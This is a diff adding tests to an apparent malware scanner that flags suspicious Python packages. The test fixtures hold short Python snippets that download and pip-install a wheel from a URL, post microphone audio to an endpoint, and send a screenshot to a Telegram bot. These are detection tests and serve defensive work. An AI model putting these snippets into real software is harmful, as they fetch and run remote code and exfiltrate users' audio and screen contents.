@@ -340,3 +340,28 @@ test('a type called Function and a file that is opened to be read run nothing', 
   assert.ok(!ruby('').includes('dropped-execution'));
   assert.ok(ruby(", 'wb'").includes('dropped-execution'));
 });
+
+test('a function to which others give the address is no dropper of this file', async () => {
+  const body = `response = requests.get(url)
+        wheel_path = os.path.join(folder, 'package.whl')
+        with open(wheel_path, 'wb') as file:
+            file.write(response.content)
+        subprocess.check_call(['pip', 'install', wheel_path])
+`;
+  const method = `class Binding:\n    def install_wheel(self, url):\n        ${body}`;
+  assert.ok((await malice(method)).includes('medium rce-dropper'));
+  assert.ok((await malice(`${method}\nBinding().install_wheel(WHERE)\n`)).includes('critical rce-dropper'));
+});
+
+test('an assistant that hears and sees is no spy because it posts', async () => {
+  const hears = 'stream = pyaudio.PyAudio().open(input=True)\nwords = requests.post(SPEECH, data=stream.read(1024))\n';
+  assert.ok((await malice(hears)).includes('medium data-handling-spyware'));
+  const tells =
+    "shot = ImageGrab.grab()\nrequests.post('https://api.telegram.org/bot' + key + '/sendPhoto', files=shot)\n";
+  assert.ok((await malice(tells)).includes('critical data-handling-spyware'));
+});
+
+async function malice(text: string): Promise<readonly string[]> {
+  const { findings } = await scan(memoryTree({ 'pkg/module.py': text }));
+  return findings.filter(({ kind }) => kind === 'malice').map(({ severity, checkId }) => `${severity} ${checkId}`);
+}
